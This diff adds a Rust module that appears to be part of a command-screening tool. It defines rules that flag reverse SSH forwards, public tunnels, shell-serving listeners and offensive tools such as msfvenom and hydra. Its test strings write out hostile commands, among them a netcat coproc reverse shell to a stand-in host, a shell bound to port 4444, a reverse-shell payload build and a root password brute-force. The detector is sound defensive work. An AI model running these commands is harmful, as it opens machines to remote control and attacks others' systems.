@@ -1,0 +1,206 @@
+//! Ways into this machine that stay open: shells that anybody reaches, logins made reachable from outside, tools that break in.
+
+use super::super::{lists, predicate, run};
+use crate::domain::Severity;
+use crate::rules::Invocation;
+use crate::rules::matcher::{
+    Command, Found, Instead, Operand, RULE, Rule, Scene, Trigger, When, has_flag, is_shell, runs,
+};
+use crate::shell::Arg;
+
+const SSH: &[&str] = &["ssh", "autossh", "dbclient", "plink"];
+
+const TUNNELS: &[&str] =
+    &["ngrok", "bore", "chisel", "cloudflared", "wstunnel", "lt", "localtunnel", "pinggy", "frpc"];
+
+const SERVERS: &[&str] = &["sshd", "dropbear", "tcpserver", "inetd", "xinetd", "websocat", "wscat"];
+
+const WINDOWS: &[&str] = &["xterm", "rxvt", "urxvt", "gnome-terminal", "konsole", "x-terminal-emulator"];
+
+/// Ports behind which somebody logs in.
+const LOGINS: &[&str] = &["22", "2222", "23", "3389", "5900", "5901", "5985", "445"];
+
+pub(in crate::rules::builtin) const RULES: &[Rule] = &[
+    Rule {
+        id: "network.open-door",
+        severity: Severity::Critical,
+        reason: "lets whoever knows the address use a shell on this machine, or reach its logins and its network",
+        instead: Some(Instead::Advice("let the person open the way in that is needed")),
+        when: &[
+            predicate("reverse_forwarding_of_a_login", Trigger::programs(SSH), forwards_login),
+            predicate("tunnel_to_a_login_or_to_files", Trigger::programs(TUNNELS), tunnels_login),
+            When::Command(Command { operand: Operand::Some, ..run(&["ttyd", "gotty", "wetty"]) }),
+            When::Command(run(&["tmate", "upterm", "sshx", "telnetd", "in.telnetd", "shellinaboxd"])),
+            predicate("shell_behind_a_port", Trigger::programs(SERVERS), serves_shell),
+            predicate("shell_of_a_coprocess", Trigger::SHELL, coprocess),
+            predicate("terminal_on_a_foreign_display", Trigger::programs(WINDOWS), foreign_display),
+        ],
+        fires: &[
+            "ssh -R 2222:localhost:22 u@x.example",
+            "ssh -fN -R 0.0.0.0:8080:localhost:22 u@x.example",
+            "ssh -R 1080 u@x.example",
+            "autossh -M 0 -N -R 2222:localhost:22 u@x.example",
+            "dbclient -R 2222:localhost:22 u@x.example",
+            "ngrok tcp 22",
+            "ngrok http file:///",
+            "bore local 22 --to x.example",
+            "chisel client x.example:8000 R:socks",
+            "chisel server -p 8000 --reverse",
+            "cloudflared tunnel --url ssh://localhost:22",
+            "wstunnel client -R tcp://2222:localhost:22 wss://x.example",
+            "ttyd -W bash",
+            "tmate -F",
+            "sshd -p 2222 -o PermitRootLogin=yes",
+            "websocat ws-l:0.0.0.0:4444 cmd:bash",
+            "tcpserver 0 4444 /bin/sh",
+            "coproc nc x.example 4444; exec bash <&${COPROC[0]} >&${COPROC[1]}",
+            "DISPLAY=10.0.0.1:0 xterm",
+        ],
+        silent: &[
+            "ssh -L 5432:localhost:5432 db.example",
+            "ssh host.example ls",
+            "sshd -t",
+            "ngrok version",
+            "cloudflared --version",
+            "websocat ws://localhost:8080",
+            "which ttyd",
+            "man tmate",
+            "DISPLAY=:0 xterm",
+            "coproc cat; echo x",
+        ],
+        ..RULE
+    },
+    Rule {
+        id: "network.break-in",
+        severity: Severity::Critical,
+        reason: "breaks into other machines, guesses their passwords, or makes programs that do",
+        instead: Some(Instead::Command("nc -z localhost 8080")),
+        when: &[When::Command(run(&[
+            "msfconsole",
+            "msfvenom",
+            "msfdb",
+            "hydra",
+            "medusa",
+            "sqlmap",
+            "responder",
+            "bettercap",
+            "ettercap",
+            "arpspoof",
+            "dnsspoof",
+            "aircrack-ng",
+            "aireplay-ng",
+            "beef-xss",
+            "commix",
+            "xsser",
+            "wpscan",
+            "setoolkit",
+            "slowloris",
+            "hping3",
+            "loic",
+            "goldeneye",
+        ]))],
+        fires: &[
+            "msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.0.0.1 -f elf",
+            "hydra -l root -P list ssh://10.0.0.1",
+        ],
+        silent: &["which hydra", "man sqlmap", "apt-cache show medusa"],
+        ..RULE
+    },
+];
+
+fn texts(inv: &Invocation) -> Vec<String> {
+    inv.args.iter().map(Arg::text).collect()
+}
+
+/// `-R` towards a port behind which somebody logs in, to every address of the other side, or to wherever it is asked to go.
+fn forwards_login<'a>(scene: &Scene<'a>) -> Found<'a> {
+    let found = scene.first(SSH, |inv| {
+        let words = texts(inv);
+        let mut values = words.iter().enumerate().filter_map(|(at, word)| {
+            let rest = word.strip_prefix('-').filter(|rest| !rest.starts_with('-'))?;
+            let (bundle, value) = rest.split_once('R')?;
+            let plain = bundle.bytes().all(|b| b"fNTnqvCxXaAgt46".contains(&b));
+            match value {
+                _ if !plain => None,
+                "" => words.get(at + 1).map(String::as_str),
+                value => Some(value),
+            }
+        });
+        values.any(|value| {
+            let parts: Vec<&str> = value.split(':').collect();
+            let open = parts.len() > 3 && matches!(parts.first(), Some(&("0.0.0.0" | "*" | "" | "[")));
+            // A port alone makes a proxy into the whole network.
+            let proxy = !value.is_empty() && value.bytes().all(|b| b.is_ascii_digit());
+            open || proxy || parts.last().is_some_and(|port| LOGINS.contains(port))
+        })
+    });
+    Found::from(found.map(|inv| inv.text.as_str()))
+}
+
+fn tunnels_login<'a>(scene: &Scene<'a>) -> Found<'a> {
+    let found = scene.first(TUNNELS, |inv| {
+        let words = texts(inv);
+        let says = |word: &str| words.iter().any(|given| given == word);
+        let login = words
+            .iter()
+            .any(|word| LOGINS.contains(&word.rsplit(':').next().unwrap_or_default()) && !word.contains('.'));
+        match inv.program.as_str() {
+            "ngrok" => {
+                (says("tcp") || says("tls")) && login || words.iter().any(|word| word.starts_with("file:"))
+            }
+            "chisel" => says("--reverse") || words.iter().any(|word| word.starts_with("R:")),
+            "wstunnel" => says("-R") || words.iter().any(|word| word.starts_with("-R")),
+            "cloudflared" => words.iter().any(|word| {
+                ["ssh://", "rdp://", "tcp://", "smb://"].iter().any(|front| word.contains(front))
+            }),
+            _ => login,
+        }
+    });
+    Found::from(found.map(|inv| inv.text.as_str()))
+}
+
+/// A server that is told to start a shell for whoever connects, or one for logins with settings of its own.
+fn serves_shell<'a>(scene: &Scene<'a>) -> Found<'a> {
+    let found = scene.first(SERVERS, |inv| {
+        let words = texts(inv);
+        let names_shell =
+            || words.iter().any(|word| is_shell(word.rsplit(['/', ':']).next().unwrap_or_default()));
+        match inv.program.as_str() {
+            "sshd" | "dropbear" => {
+                ["-p", "-o", "-f", "-R"].iter().any(|flag| has_flag(inv, flag))
+                    && !has_flag(inv, "-t")
+                    && !has_flag(inv, "-T")
+            }
+            "inetd" | "xinetd" => !inv.operands.is_empty() || has_flag(inv, "-f"),
+            "websocat" | "wscat" => {
+                let runs_one =
+                    |word: &String| ["cmd:", "exec:", "sh-c:"].iter().any(|front| word.starts_with(front));
+                words.iter().any(runs_one)
+            }
+            _ => names_shell(),
+        }
+    });
+    Found::from(found.map(|inv| inv.text.as_str()))
+}
+
+/// `coproc nc …; bash <&${COPROC[0]}`
+fn coprocess<'a>(scene: &Scene<'a>) -> Found<'a> {
+    let line = scene.command_line();
+    if !line.contains("coproc ") || !line.contains("${") {
+        return Found::No;
+    }
+    let all = scene.invocations();
+    let connects = all.iter().any(|inv| runs(inv, lists::NETCATS) || runs(inv, lists::CONNECTIONS));
+    let shell = all.iter().find(|inv| connects && is_shell(&inv.program) && inv.text.contains("<&"));
+    Found::from(shell.map(|inv| inv.text.as_str()))
+}
+
+/// `DISPLAY=host:0 xterm`
+fn foreign_display<'a>(scene: &Scene<'a>) -> Found<'a> {
+    let host =
+        scene.command_line().split("DISPLAY=").nth(1).map(|rest| {
+            rest.trim_start_matches(['"', '\'']).split([':', ' ', ';']).next().unwrap_or_default()
+        });
+    let foreign = host.is_some_and(|host| !matches!(host, "" | "localhost" | "127.0.0.1" | "unix"));
+    Found::from(scene.first(WINDOWS, |_| foreign).map(|inv| inv.text.as_str()))
+}
